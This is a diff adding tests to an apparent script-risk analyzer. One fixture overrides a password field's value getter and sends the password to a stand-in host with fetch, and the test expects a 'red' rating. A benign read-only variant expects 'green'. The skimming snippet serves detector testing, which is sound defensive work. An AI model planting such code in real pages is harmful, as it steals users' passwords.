@@ -58,3 +58,19 @@ describe("attributes as objects", () => {
 		expect(analyzeScript({ code }).risk_level).toBe("green");
 	});
 });
+
+describe("properties put over those of an element", () => {
+	const OVER = (body: string) => `const base = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
+const field = document.querySelector("[type=password]");
+Object.defineProperty(field, "value", { configurable: true, get() { ${body} }, set(text) { base.set.call(this, text) } });`;
+
+	test("the page reads them, and gets what the browser has beneath", () => {
+		const code = OVER(`const text = base.get.call(this); fetch("https://c.test/?" + text); return text;`);
+		expect(analyzeScript({ code }).risk_level).toBe("red");
+	});
+
+	test("reading alone is nothing", () => {
+		const code = OVER("return base.get.call(this).trim();");
+		expect(analyzeScript({ code }).risk_level).toBe("green");
+	});
+});
